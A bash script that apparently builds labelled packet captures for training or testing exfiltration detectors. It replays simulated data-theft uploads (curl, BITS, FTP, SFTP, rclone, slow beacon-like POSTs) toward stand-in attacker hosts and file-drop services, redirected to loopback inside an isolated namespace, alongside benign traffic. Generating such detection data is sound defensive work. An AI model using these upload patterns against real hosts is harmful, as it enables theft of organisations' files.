#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# capture.sh WORKDIR: runs the real tools against local servers and captures their traffic.
#
# Must run inside a private network + mount namespace (make-all.sh starts it with
# `unshare --net --mount`): there `lo` is the only interface (nothing can leave the
# machine), its MTU is set to 1500 with segmentation offloads off so the capture holds
# Ethernet-sized packets, and /etc/hosts is replaced (bind mount, this namespace only) so
# tools that resolve names themselves (rclone) find the scenario's hostnames on 127.0.0.1.
#
# Every server listens on 127.0.0.1 on a high port. One raw capture per scenario is written
# to WORKDIR/raw/NAME.pcap; repetitions inside it are separated by a marker datagram to
# 127.0.0.1:5999 that compose.py splits on and drops.
set -euo pipefail

WORK=${1:?usage: capture.sh WORKDIR}
ONLY=${2:-}          # optional: capture only scenarios whose name matches this regex
HERE=$(cd "$(dirname "$0")" && pwd)
RAW=$WORK/raw
FILES=$WORK/files
SRV=$WORK/srv
rm -rf "$SRV" "$FILES"
mkdir -p "$RAW" "$FILES" "$SRV"/{http,ftp,sftp,dav,backup} "$WORK/ssh" "$WORK/tls"

if [ "$(ip -o link show | wc -l)" != 1 ]; then
    echo "capture.sh: more than one interface here; run it through make-all.sh (private netns)" >&2
    exit 1
fi
ip link set lo up mtu 1500
ethtool -K lo tso off gso off gro off >/dev/null 2>&1 || echo "capture.sh: ethtool could not turn offloads off" >&2

# Hostnames of the scenarios, resolved to loopback in this namespace only.
HOSTS=$WORK/hosts
{
    echo "127.0.0.1 localhost"
    for h in dav.box-archive.net; do echo "127.0.0.1 $h"; done
} >"$HOSTS"
mount --bind "$HOSTS" /etc/hosts

SYSPY=/usr/bin/python3          # Debian's python: has pyftpdlib
PY=${PYTHON:-python3}
PIDS=()
cleanup() {
    local p
    [ -n "${TCPDUMP_PID:-}" ] && kill -INT "$TCPDUMP_PID" 2>/dev/null
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    wait 2>/dev/null || true
}
trap cleanup EXIT
trap 'echo "capture.sh: failed at line $LINENO: $BASH_COMMAND" >&2' ERR

bg() { "$@" & PIDS+=($!); }

wait_port() {  # wait_port PORT [tcp|udp]
    local i
    for i in $(seq 1 100); do
        if ss -Hln"${2:0:1}" "sport = :$1" | grep -q .; then return 0; fi
        sleep 0.1
    done
    echo "capture.sh: nothing listens on port $1" >&2
    return 1
}

TCPDUMP_PID=
cap_start() {  # cap_start NAME 'bpf filter'
    CAP_NAME=$1
    if [ -n "$ONLY" ] && ! [[ $1 =~ $ONLY ]]; then CAP_SKIP=1; return 0; fi
    CAP_SKIP=
    rm -f "$RAW/$1.pcap"
    # A 1 GiB ring (-B, KiB): bulk loopback transfers outrun tcpdump's writes on a busy machine,
    # and a capture with holes would give wrong volumes.
    tcpdump -i lo -U --immediate-mode -B 1048576 -Z root -w "$RAW/$1.pcap" "($2) or udp dst port 5999" 2>"$WORK/tcpdump-$1.log" &
    TCPDUMP_PID=$!
    local i
    for i in $(seq 1 100); do
        grep -q "listening on" "$WORK/tcpdump-$1.log" 2>/dev/null && break
        sleep 0.1
    done
    sleep 0.3
}
cap_stop() {
    [ -n "$CAP_SKIP" ] && return 0
    sleep 1.5   # last FIN/ACKs, and let tcpdump read what the kernel holds
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || true
    TCPDUMP_PID=
    echo "captured $CAP_NAME: $(tail -n 3 "$WORK/tcpdump-$CAP_NAME.log" | grep captured || true)"
    local dropped
    dropped=$(grep -o '[0-9]* packets dropped by kernel' "$WORK/tcpdump-$CAP_NAME.log" | cut -d' ' -f1)
    if [ "${dropped:-0}" != 0 ]; then
        echo "capture.sh: $CAP_NAME: tcpdump lost $dropped packets; recapture it (--only) on a quieter machine" >&2
        echo "$CAP_NAME" >>"$WORK/incomplete"
    fi
}
skip() { [ -n "$CAP_SKIP" ]; }
mark() { echo "rep" >/dev/udp/127.0.0.1/5999; sleep 0.3; }

# Files to upload: pseudo-random bytes (like compressed documents, archives or encrypted
# blobs: what exfiltration usually moves), sizes varying per repetition, seeded.
mkfiles() {  # mkfiles DIR COUNT MIN_KB MAX_KB SEED EXT
    mkdir -p "$1"
    "$PY" - "$@" <<'EOF'
import random, sys, os
d, n, lo, hi, seed, ext = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
r = random.Random(seed)
names = ["Q1-financials", "payroll", "customers", "contracts", "board-minutes", "roadmap", "passwords",
         "hr-records", "source-backup", "invoices", "strategy", "audit"]
for i in range(n):
    size = r.randint(lo * 1024, hi * 1024)
    name = "%s-%02d.%s" % (r.choice(names), i, ext)
    with open(os.path.join(d, "%03d_%s" % (i, name)), "wb") as f:
        f.write(r.randbytes(size))
EOF
}
nth() { ls "$1" | sed -n "$(($2 + 1))p" | sed "s|^|$1/|"; }

# ---------------------------------------------------------------------------- servers
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=upload-server" \
    -keyout "$WORK/tls/key.pem" -out "$WORK/tls/cert.pem" >/dev/null 2>&1
bg "$PY" "$HERE/servers/http_server.py" 18080
bg "$PY" "$HERE/servers/http_server.py" 18443 --tls "$WORK/tls/cert.pem" "$WORK/tls/key.pem"
bg "$PY" "$HERE/servers/udp_peer.py" server 13480
wait_port 18080 t; wait_port 18443 t

# sshd on 127.0.0.1:2222 with its own host key, key-only login.
rm -f "$WORK/ssh/host_ed25519" "$WORK/ssh/client_ed25519"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh/host_ed25519"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh/client_ed25519"
cp "$WORK/ssh/client_ed25519.pub" "$WORK/ssh/authorized_keys"
cat >"$WORK/ssh/sshd_config" <<EOF
Port 2222
ListenAddress 127.0.0.1
HostKey $WORK/ssh/host_ed25519
AuthorizedKeysFile $WORK/ssh/authorized_keys
PidFile $WORK/ssh/sshd.pid
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
Subsystem sftp internal-sftp
EOF
mkdir -p /run/sshd
bg /usr/sbin/sshd -D -e -f "$WORK/ssh/sshd_config" 2>>"$WORK/sshd.log"
wait_port 2222 t
SSH_COMMON="-i $WORK/ssh/client_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BatchMode=yes"
SSH_OPTS="$SSH_COMMON -p 2222"
SFTP_OPTS="$SSH_COMMON -P 2222"

UA_PS='Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291'

# ==================================================================== positives
# P1: PowerShell Invoke-WebRequest/WebClient-like multipart POSTs to a bare IP.
cap_start ps_upload "tcp port 18080"
if ! skip; then
    mkfiles "$FILES/ps" 6 170 260 101 zip
    for i in 0 1 2 3 4 5; do
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A "$UA_PS" -H 'Expect:' \
            -F "file=@$(nth "$FILES/ps" $i)" "http://91.208.197.40/upload.php"
    done
fi
cap_stop

# P2: the T1020 atomic test's curl -F loop.
cap_start curl_form_loop "tcp port 18080"
if ! skip; then
    mkfiles "$FILES/curlf" 8 120 190 102 tar.gz
    for i in 0 1 2 3 4 5 6 7; do
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 \
            -F "file=@$(nth "$FILES/curlf" $i)" "http://files.quickshare-drop.net/api/upload"
    done
fi
cap_stop

# P3: BITS upload protocol (what bitsadmin /transfer /upload and Start-BitsTransfer -TransferType
# Upload speak): Ping, Create-Session, Fragments of 64 KiB with Content-Range, Close-Session,
# all on one keep-alive connection as BITS does.
cap_start bits_upload "tcp port 18080"
if ! skip; then
    mkfiles "$FILES/bits" 5 200 300 103 7z
    for i in 0 1 2 3 4; do
        mark
        f=$(nth "$FILES/bits" $i); size=$(stat -c %s "$f")
        sid="{$(cat /proc/sys/kernel/random/uuid | tr a-z A-Z)}"
        url="http://cdn.winupdate-svc.com/upload/$(basename "$f")"
        args=(-sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Microsoft BITS/7.8' -H 'Expect:'
              -X BITS_POST -H 'BITS-Packet-Type: Ping' -H 'Content-Length: 0' "$url"
              --next -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Microsoft BITS/7.8'
              -X BITS_POST -H 'BITS-Packet-Type: Create-Session'
              -H 'BITS-Supported-Protocols: {7df0354d-249b-430f-820d-3d2a9bef4931}' -H 'Content-Length: 0' "$url")
        off=0; chunk=65536
        while [ $off -lt $size ]; do
            n=$(( size - off < chunk ? size - off : chunk ))
            dd if="$f" of="$WORK/frag.$off" bs=$chunk skip=$((off / chunk)) count=1 status=none
            args+=(--next -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Microsoft BITS/7.8' -H 'Expect:'
                   -X BITS_POST -H 'BITS-Packet-Type: Fragment' -H "BITS-Session-Id: $sid"
                   -H "Content-Range: bytes $off-$((off + n - 1))/$size" -H 'Content-Type:'
                   --data-binary "@$WORK/frag.$off" "$url")
            off=$((off + n))
        done
        args+=(--next -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Microsoft BITS/7.8'
               -X BITS_POST -H 'BITS-Packet-Type: Close-Session' -H "BITS-Session-Id: $sid"
               -H 'Content-Length: 0' "$url")
        curl "${args[@]}"
        rm -f "$WORK"/frag*
    done
fi
cap_stop

# P4: Python zips the Documents folder and POSTs it with urllib.
cap_start py_zip_post "tcp port 18080"
if ! skip; then
    for i in 0 1 2 3 4; do
        mark
        rm -rf "$FILES/docs$i"; mkfiles "$FILES/docs$i" 4 45 70 $((140 + i)) docx
        "$PY" - "$FILES/docs$i" <<'EOF'
import io, os, sys, urllib.request, zipfile
folder = sys.argv[1]
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    for name in sorted(os.listdir(folder)):
        z.write(os.path.join(folder, name), "Documents/" + name)
data = buf.getvalue()
req = urllib.request.Request("http://127.0.0.1:18080/u.php?id=WS-FIN-07", data=data, method="POST",
                             headers={"Host": "collect.docs-archive.org",
                                      "Content-Type": "application/zip"})
urllib.request.urlopen(req).read()
EOF
    done
fi
cap_stop

# P5/P6: FTP STOR with lftp against pyftpdlib, passive and active mode.
ftp_put() {  # ftp_put PASSIVE(on|off) FILE CLIENT_IP
    lftp -c "set ftp:ssl-allow no; set ftp:passive-mode $1; set ftp:ignore-pasv-address yes;
             set ftp:port-range 40000-40009; set ftp:port-ipv4 $3; set net:max-retries 1;
             open -u backup,S3cure!pass -p 2121 127.0.0.1; put '$2' -o '$(basename "$2")'"
}
for mode in passive active; do
    if [ $mode = passive ]; then srv=62.112.8.60; cli=10.20.1.35; n=8; else srv=62.112.8.61; cli=10.20.1.36; n=5; fi
    cap_start ftp_stor_$mode "tcp port 2121 or tcp portrange 30000-30009 or tcp port 2020"
    if ! skip; then
        bg "$SYSPY" "$HERE/servers/ftp_server.py" 2121 "$SRV/ftp" "$srv" 2>>"$WORK/ftp_server.log"
        ftp_pid=$!
        wait_port 2121 t
        mkfiles "$FILES/ftp_$mode" $n $([ $mode = passive ] && echo "135 170" || echo "200 260") $((104 + n)) csv.gz
        for i in $(seq 0 $((n - 1))); do
            mark
            ftp_put $([ $mode = passive ] && echo on || echo off) "$(nth "$FILES/ftp_$mode" $i)" $cli
        done
        kill $ftp_pid; wait $ftp_pid 2>/dev/null || true
        sleep 0.5
    fi
    cap_stop
done

# P7: SFTP upload every hour (Rover's 60-minute cycle), OpenSSH client and server.
cap_start sftp_hourly "tcp port 2222"
if ! skip; then
    mkfiles "$FILES/sftp" 6 170 240 107 dat
    for i in 0 1 2 3 4 5; do
        mark
        printf 'put %s /%s/\n' "$(nth "$FILES/sftp" $i)" "$SRV/sftp" >"$WORK/sftp.batch"
        sftp $SFTP_OPTS -b "$WORK/sftp.batch" root@127.0.0.1 >/dev/null
    done
fi
cap_stop

# P8-P10: TLS uploads to cloud storage / file-drop names: the SNI is the real one.
tls_upload() {  # tls_upload NAME HOST METHOD COUNT MINKB MAXKB SEED URLPATH
    local name=$1 host=$2 method=$3 n=$4
    cap_start "$name" "tcp port 18443"
    if ! skip; then
        mkfiles "$FILES/$name" "$n" "$5" "$6" "$7" bin
        for i in $(seq 0 $((n - 1))); do
            mark
            f=$(nth "$FILES/$name" $i)
            if [ "$method" = PUT ]; then
                curl -sS -k -o /dev/null --connect-to "$host:443:127.0.0.1:18443" -T "$f" "https://$host$8$(basename "$f")"
            else
                curl -sS -k -o /dev/null --connect-to "$host:443:127.0.0.1:18443" -F "file=@$f" "https://$host$8"
            fi
        done
    fi
    cap_stop
}
tls_upload tls_mega mega.nz PUT 6 170 230 108 /ul/
tls_upload tls_pcloud api.pcloud.com POST 5 200 280 109 /uploadfile?folderid=0
tls_upload tls_transfersh transfer.sh PUT 5 200 280 110 /

# P11: real rclone copy with 4 parallel transfers to a WebDAV server over TLS (rclone serve
# webdav on the other side).
cap_start rclone_multistream "tcp port 18444"
if ! skip; then
    mkfiles "$FILES/rclone" 8 140 190 111 pdf
    bg rclone serve webdav "$SRV/dav" --addr 127.0.0.1:18444 --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" -q
    rcl_pid=$!
    wait_port 18444 t
    mark
    rclone copy "$FILES/rclone" ":webdav:exports/finance" --webdav-url "https://dav.box-archive.net:18444" \
        --webdav-vendor other --no-check-certificate --disable-http2 --transfers 4 --checkers 4 --bwlimit 1M -q
    kill $rcl_pid; wait $rcl_pid 2>/dev/null || true
fi
cap_stop

# P12: daily upload at 03:00 for five days (curl -T over HTTPS).
tls_upload daily_0300 sync.docvault-store.net PUT 5 215 260 112 /incoming/

# P13: slow drip: small HTTP POSTs (beacon-like, 7-10 KB of data each) every 5 minutes.
cap_start slow_drip "tcp port 18080"
if ! skip; then
    mkfiles "$FILES/drip" 144 7 10 113 b64
    for i in $(seq 0 143); do
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' -H 'Expect:' \
            -H 'Content-Type: application/octet-stream' --data-binary "@$(nth "$FILES/drip" $i)" \
            "http://telemetry.cdn-metrics.io/v2/collect"
    done
fi
cap_stop

# ==================================================================== benign
# B1: one large download.
cap_start big_download "tcp port 18080"
if ! skip; then
    mark
    curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -A 'Wget/1.21.3' "http://dl.linux-mirror.org/bytes/2000000"
fi
cap_stop

# B2: update checks every 10 minutes (small GET, small answer) over HTTPS.
cap_start update_polling "tcp port 18443"
if ! skip; then
    for i in $(seq 0 47); do
        mark
        curl -sS -k -o /dev/null --connect-to update.softvendor-cdn.com:443:127.0.0.1:18443 \
            -A 'SoftVendorUpdater/4.2' "https://update.softvendor-cdn.com/poll?product=agent&v=4.2.1"
    done
fi
cap_stop

# B3: nightly backup to an internal server: rsync over ssh.
cap_start internal_backup "tcp port 2222"
if ! skip; then
    for i in 0 1 2 3 4 5 6 7; do
        mark
        mkfiles "$FILES/backup" 1 130 180 $((120 + i)) db
        rsync -a -e "ssh $SSH_OPTS" "$FILES/backup/" root@127.0.0.1:"$SRV/backup/" >/dev/null
        rm -rf "$FILES/backup"
    done
fi
cap_stop

# B4: an allowlisted sync client uploading every 30 minutes over HTTPS.
tls_upload allowlisted_sync sync.example-backup.com PUT 8 170 220 114 /api/v1/files/

# B5: ordinary browsing: several GETs with larger answers, a few sites.
cap_start browsing "tcp port 18443"
if ! skip; then
    for site in www.wikipedia.org news.dailyglobe-example.com www.weather-example.net shop.example-store.com; do
        mark
        urls=()
        for sz in 48000 12000 9000 30000 6000; do
            urls+=("https://$site/page/$sz")
        done
        curl -sS -k -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
            --connect-to "$site:443:127.0.0.1:18443" \
            -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' "${urls[@]}"
    done
fi
cap_stop

# B6: one small form post.
cap_start form_post "tcp port 18443"
if ! skip; then
    mark
    curl -sS -k -o /dev/null --connect-to www.example-shop.com:443:127.0.0.1:18443 \
        -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' \
        --data-urlencode "name=Jane Doe" --data-urlencode "email=jane@example.org" \
        --data-urlencode "message=$(head -c 1500 /dev/zero | tr '\0' 'x')" "https://www.example-shop.com/contact"
fi
cap_stop

# B7: a video call: balanced UDP both ways, 20 packets a second of 200 bytes, one minute.
cap_start video_call "udp port 13480"
if ! skip; then
    mark
    "$PY" "$HERE/servers/udp_peer.py" client 13480 60 20 200
fi
cap_stop

# ==================================================================== baseline pieces
# Small HTTPS visits reused for the "days before" traffic of every host.
cap_start baseline_visit "tcp port 18443"
if ! skip; then
    for site in www.wikipedia.org news.dailyglobe-example.com www.weather-example.net mail.example-webmail.com; do
        mark
        curl -sS -k -o /dev/null -o /dev/null --connect-to "$site:443:127.0.0.1:18443" \
            -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' \
            "https://$site/page/1500" "https://$site/page/800"
    done
fi
cap_stop

# ==================================================================== shapes beyond series
. "$HERE/capture-shapes.sh"

echo "capture.sh: done"
